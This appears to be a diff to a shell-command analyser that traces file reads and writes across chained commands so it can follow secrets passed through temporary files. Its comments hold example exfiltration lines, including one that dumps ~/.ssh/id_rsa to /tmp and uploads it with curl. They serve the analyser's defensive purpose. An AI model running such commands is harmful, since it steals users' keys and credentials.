@@ -406,6 +406,9 @@ def analyse_shell(
             if sc.copies and at:
                 # `cp .env /tmp/k && cat /tmp/k`: a read of a copy this line made reads the original's text.
                 got += [Effect(READ, sc.copies[e.path], e.raw, e.recursive, e.cmd, e.note) for e in got if e.kind == READ and e.path in sc.copies]
+            if len(exp.commands) > 1 and any(e.kind == WRITE for e in got):
+                # `cat ~/.ssh/id_rsa > /tmp/k && curl -F f=@/tmp/k …`: what a later command reads there is what this wrote.
+                sc.remember_writes(cmd, [e.path for e in got if e.kind == WRITE])
             out.effects.extend(got)
             positions += [at] * len(got)
     finally:
